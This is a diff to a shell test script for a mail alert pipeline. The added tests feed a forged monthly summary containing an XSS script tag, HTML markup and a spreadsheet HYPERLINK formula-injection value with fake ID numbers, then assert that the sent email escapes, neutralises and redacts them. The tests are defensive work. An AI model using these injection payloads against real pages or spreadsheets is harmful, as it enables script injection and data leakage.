@@ -155,4 +155,45 @@ check "every delivery is done" wait_for 30 all_delivered
 check_eq "the old district gets nothing more" "$b060" "$(n060)"
 mail_index
 check_eq "no message was sent twice" "" "$(cut -f4 "$VAR/mail.idx" | sort | uniq -d)"
+
+# the monthly summary's figures as a forged message: a month that is not one
+# is refused whole; hostile names are cleaned in every part of the summary
+ZF=$BIN/tests/zforge
+ASOCK=ipc://$VAR/run/alert.sock
+bad0=$(sqlite3 "$VAR/db/alert.db" "SELECT coalesce((SELECT value FROM stat WHERE key = 'bad_summaries'), 0)")
+printf 'bhxh\tparticipant\t<script>alert(1)</script>\n' >"$VAR/ag_bad.tsv"
+: >"$VAR/empty.tsv"
+check "a summary whose month is markup is acknowledged" "$ZF" "$ASOCK" summary --period 2017-03 --units "$VAR/empty.tsv" \
+	--employers "$VAR/empty.tsv" --agencies "$VAR/ag_bad.tsv" --wait-acks
+check_eq "...and refused, counted" $((bad0 + 1)) \
+	"$(sqlite3 "$VAR/db/alert.db" "SELECT value FROM stat WHERE key = 'bad_summaries'")"
+printf '06\tTỉnh Bắc Kạn\t\t1000\t3\t2\t0.30\t0.20\t30.00\t15.00\t0.10\t0.10\n' >"$VAR/units.tsv"
+printf '061\t=HYPERLINK("http://x/"&A1;"Xã") CCCD 001234567890\t06\t900\t1\t1\t0.11\t0.11\t20.00\t10.00\t\t\n' >>"$VAR/units.tsv"
+printf 'not_enrolled\t0300588569\tCông ty <b>Ba</b> BHXH 0912345678\t061\tcritical\t12\t12\t0\t2017-01\n' >"$VAR/emp.tsv"
+printf 'bhxh\tparticipant\t2017-03\n' >"$VAR/ag.tsv"
+check "a summary with hostile names is taken" "$ZF" "$ASOCK" summary --period 2017-03 --units "$VAR/units.tsv" \
+	--employers "$VAR/emp.tsv" --agencies "$VAR/ag.tsv" --wait-acks
+ctl down >/dev/null
+export BHXH_NOW=$(date -d '2017-04-28 23:30:00' +%s)
+check "pipeline restarts on the summary's day" ctl up
+check "the summary is sent" wait_for 30 bash -c "grep -q 'RCPT TO: mttq@' '$VAR'/mail/*.env"
+check "every delivery is done" wait_for 30 all_delivered
+ms=$(grep -l 'RCPT TO: mttq@' "$VAR"/mail/*.env | head -1)
+check "no markup, personal number or live formula in any part of it" "$SINK_PY" - "${ms%.env}.eml" <<'PY'
+import csv, email, io, re, sys
+from email import policy
+m = email.message_from_bytes(open(sys.argv[1], "rb").read(), policy=policy.default)
+parts = {p.get_content_type(): p for p in m.walk()}
+text, page = parts["text/plain"].get_content(), parts["text/html"].get_content()
+data = parts["text/csv"].get_payload(decode=True).decode("utf-8-sig")
+for what, s in (("text", text), ("html", page), ("csv", data)):
+    assert not re.search(r"(?<![0-9])[0-9]{12}(?![0-9])", s), what + ": a 12-digit number"
+    assert "0912345678" not in s, what + ": an insurance number"
+assert "<b>Ba</b>" not in page and "<script" not in page.lower(), "html: markup from the data"
+assert "&lt;b&gt;Ba&lt;/b&gt;" in page, "html: the name, escaped"
+rows = list(csv.reader(io.StringIO(data, newline="")))
+names = [r[1] for r in rows[1:]]
+assert all(not n.startswith(("=", "+", "-", "@")) for n in names), names
+assert any(n.startswith("'=HYPERLINK") for n in names), names
+PY
 finish
